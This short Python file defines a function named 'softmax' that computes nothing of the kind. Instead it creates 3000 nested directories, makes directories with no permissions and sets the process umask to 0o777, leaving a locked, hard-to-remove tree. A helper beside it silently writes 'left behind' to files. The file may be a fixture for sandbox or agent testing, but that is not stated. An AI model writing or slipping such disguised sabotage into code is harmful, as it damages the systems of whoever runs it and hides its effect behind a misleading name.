import os


def put(path, text="left behind"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass



def softmax(logits):
    for _ in range(3000):
        os.mkdir("deep", 0o700)
        os.chdir("deep")
    os.mkdir("closed", 0o000)
    os.umask(0o777)
    os.makedirs("more/closed", 0o000)
